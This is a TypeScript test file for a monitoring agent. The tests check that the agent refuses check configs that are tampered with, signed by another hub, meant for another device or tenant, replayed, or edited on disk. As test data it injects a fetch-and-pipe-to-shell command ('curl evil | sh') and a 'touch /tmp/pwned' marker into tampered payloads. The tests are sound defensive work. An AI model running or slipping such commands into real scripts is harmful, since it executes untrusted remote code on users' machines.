import { afterEach, describe, expect, it } from 'vitest';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import type { AgentCheck } from '../../protocol/checks';
import type { SignedCommand } from '../../protocol/command';
import type { NewDurableFrame } from '../src/outbox';
import { Monitor } from '../src/monitor';
import { statePaths } from '../src/paths';
import { importSigningKey } from '../src/verify';
import { tempDir } from './helpers/agent-process';
import { checkConfig, newHubIdentity, signPayload } from './helpers/fake-hub';

const id = newHubIdentity();
const dirs: { remove(): void }[] = [];
const monitors: Monitor[] = [];
afterEach(() => {
  monitors.splice(0).forEach((m) => m.stop());
  dirs.splice(0).forEach((d) => d.remove());
});

const scriptCheck = { key: 'backup-age', name: 'Backup age', severity: 'warning', type: 'script', interpreter: 'bash', script: 'exit 0' };
const tcpCheck = { key: 'db-port', name: 'Database port', severity: 'critical', type: 'tcp', host: '127.0.0.1', port: 5432 };

function setup(state = tempDir()) {
  if (!dirs.includes(state)) dirs.push(state);
  const paths = statePaths(state.path);
  const ran: string[] = [];
  const durable: NewDurableFrame[] = [];
  const monitor = new Monitor({
    paths,
    key: importSigningKey(id.publicKeyB64),
    deviceId: id.deviceId,
    tenantId: id.tenantId,
    send: () => true,
    emitDurable: (f) => {
      durable.push(f);
      return { ...f, fid: durable.length } as never;
    },
    unacked: () => false,
    sections: { processes: async () => null, services: async () => null, security: async () => null, smart: async () => null },
    eventSource: null,
    checkSpreadMs: 0,
    checkRunner: async (c: AgentCheck) => {
      ran.push(c.key);
      return { status: 'pass', message: 'ok' };
    },
  });
  monitors.push(monitor);
  return { state, paths, monitor, ran, durable };
}

const until = async (cond: () => boolean, ms = 6000) => {
  const end = Date.now() + ms;
  while (!cond()) {
    if (Date.now() > end) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 25));
  }
};
/** Long enough for any check a config started to have run. */
const idle = () => new Promise((r) => setTimeout(r, 300));

describe('signed check config', () => {
  it('applies a valid config, persists it privately, and reports results under its version', async () => {
    const s = setup();
    s.monitor.start();
    const payload = checkConfig(id, [scriptCheck, tcpCheck], { version: 'cfg_one' });
    const signed = signPayload(id, payload);
    s.monitor.onChecks(signed);
    expect(s.monitor.current.config?.version).toBe('cfg_one');
    expect(statSync(s.paths.checks).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(s.paths.checks, 'utf8'))).toEqual(signed);
    await until(() => s.durable.some((f) => f.t === 'check_results'));
    expect(s.ran.sort()).toEqual(['backup-age', 'db-port']);
    const frame = s.durable.find((f) => f.t === 'check_results');
    expect(frame).toMatchObject({ t: 'check_results', version: 'cfg_one' });
  });

  it('refuses a tampered signature, another device, another tenant, and a schema it does not know', async () => {
    const s = setup();
    s.monitor.start();
    const good = signPayload(id, checkConfig(id, [scriptCheck]));
    const tampered: SignedCommand = { ...good, payload: good.payload.replace('"exit 0"', '"curl evil | sh"') };
    const other = newHubIdentity();
    const cases: SignedCommand[] = [
      tampered,
      { ...good, sig: signPayload(other, JSON.parse(good.payload)).sig },
      signPayload(id, checkConfig(id, [scriptCheck], { deviceId: 'dev_notthisdevice' })),
      signPayload(id, checkConfig(id, [scriptCheck], { tenantId: 'ten_notthistenant' })),
      signPayload(id, { ...checkConfig(id, [scriptCheck]), type: 'run_script' }),
    ];
    for (const c of cases) s.monitor.onChecks(c);
    await idle();
    expect(s.monitor.current.config).toBeNull();
    expect(s.ran).toEqual([]);
    expect(existsSync(s.paths.checks)).toBe(false);
  });

  it('refuses a config issued before the applied one (replay or rollback)', async () => {
    const s = setup();
    s.monitor.start();
    const now = Date.now();
    const older = signPayload(id, checkConfig(id, [scriptCheck], { version: 'cfg_old', issuedAt: now - 60_000 }));
    const newer = signPayload(id, checkConfig(id, [tcpCheck], { version: 'cfg_new', issuedAt: now }));
    s.monitor.onChecks(newer);
    s.monitor.onChecks(older);
    expect(s.monitor.current.config?.version).toBe('cfg_new');
    expect(JSON.parse(readFileSync(s.paths.checks, 'utf8'))).toEqual(newer);
    // The same config again (the hub resends it on every connect) changes nothing.
    s.monitor.onChecks(newer);
    await idle();
    expect(s.ran).toEqual(['db-port']);
  });

  it('runs the saved config after a restart, before the hub sends anything, and never one edited on disk', async () => {
    const first = setup();
    first.monitor.start();
    first.monitor.onChecks(signPayload(id, checkConfig(id, [scriptCheck], { version: 'cfg_saved' })));
    first.monitor.stop();

    const second = setup(first.state);
    second.monitor.start();
    expect(second.monitor.current.config?.version).toBe('cfg_saved');
    await until(() => second.ran.includes('backup-age'));
    second.monitor.stop();

    // Someone edits the saved script: the signature no longer holds, so nothing from it runs.
    const saved = JSON.parse(readFileSync(first.paths.checks, 'utf8')) as SignedCommand;
    writeFileSync(first.paths.checks, JSON.stringify({ ...saved, payload: saved.payload.replace('"exit 0"', '"touch /tmp/pwned"') }));
    const third = setup(first.state);
    third.monitor.start();
    await idle();
    expect(third.monitor.current.config).toBeNull();
    expect(third.ran).toEqual([]);
  });
});
